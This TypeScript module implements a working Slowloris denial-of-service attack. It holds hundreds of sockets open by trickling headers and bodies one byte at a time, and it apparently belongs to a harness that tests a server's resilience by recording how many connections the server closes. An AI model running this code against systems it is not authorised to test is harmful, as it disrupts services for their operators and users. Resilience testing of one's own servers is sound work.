import type { Socket } from 'node:net';
import type { Attack } from './attackOptions.ts';
import { createTally } from './createTally.ts';
import { openSockets } from './openSockets.ts';

const HEADER_SOCKETS = 500;
const BODY_SOCKETS = 200;
const HEADER_BYTE_EVERY_MS = 3_000;
const BODY_BYTE_EVERY_MS = 10_000;
const BODY_LENGTH = 100_000;

/**
 * Slowloris: 500 sockets send a request's line and headers one byte every 3 s, and 200 sockets send
 * complete `events.append` headers announcing a 100 000-byte body and then one body byte every 10 s.
 * Reports how many of them the server closed (or answered) while the attack ran.
 */
export const slowloris: Attack = async ({ url, token, source, signal, ready }) => {
  const host = new URL(url).host;
  const headerBytes = Buffer.from(
    `GET /healthz HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${token}\r\n${'X-Padding: slow\r\n'.repeat(100)}\r\n`,
  );
  const bodyHead = Buffer.from(
    `POST /trpc/events.append HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${token}\r\n` +
      `Content-Type: application/json\r\nContent-Length: ${BODY_LENGTH}\r\n\r\n`,
  );
  const timers: NodeJS.Timeout[] = [];
  const errors = createTally();
  const closed = { header: 0, body: 0 };
  const answered = createTally();
  const watch = (socket: Socket, kind: 'header' | 'body') => {
    socket.on('data', (chunk: Buffer) => {
      const status = /^HTTP\/1\.1 (\d{3})/.exec(chunk.toString('latin1', 0, 16));
      if (status) answered.add(`${kind}:${status[1]}`);
    });
    socket.once('close', () => {
      if (!signal.aborted) closed[kind]++;
    });
  };
  // Each socket starts its trickle at a random point of its interval, so bytes arrive spread out.
  const trickle = (socket: Socket, bytes: Buffer, everyMs: number) => {
    let next = 0;
    const send = () => {
      if (next < bytes.length && !socket.destroyed) socket.write(bytes.subarray(next, ++next));
    };
    const start = setTimeout(() => {
      send();
      timers.push(setInterval(send, everyMs));
    }, Math.random() * everyMs);
    timers.push(start);
  };
  const headerSockets = await openSockets({
    url,
    source,
    count: HEADER_SOCKETS,
    wave: 50,
    signal,
    errors,
    onOpen(socket) {
      watch(socket, 'header');
      socket.write(headerBytes.subarray(0, 1));
      trickle(socket, headerBytes.subarray(1), HEADER_BYTE_EVERY_MS);
    },
  });
  const bodySockets = await openSockets({
    url,
    source,
    count: BODY_SOCKETS,
    wave: 50,
    signal,
    errors,
    onOpen(socket) {
      watch(socket, 'body');
      socket.write(bodyHead);
      trickle(socket, Buffer.alloc(BODY_LENGTH, ' '), BODY_BYTE_EVERY_MS);
    },
  });
  ready();
  const started = performance.now();
  await new Promise<void>((resolve) => {
    if (signal.aborted) resolve();
    else signal.addEventListener('abort', () => resolve(), { once: true });
  });
  for (const timer of timers) clearTimeout(timer);
  for (const socket of [...headerSockets, ...bodySockets]) socket.destroy();
  return {
    outcome:
      `over ${((performance.now() - started) / 1000).toFixed(0)} s, closed by server: ${closed.header}/${headerSockets.length} header-trickle, ` +
      `${closed.body}/${bodySockets.length} body-trickle; answers: ${answered.format()}; connect errors: ${errors.format()}`,
  };
};
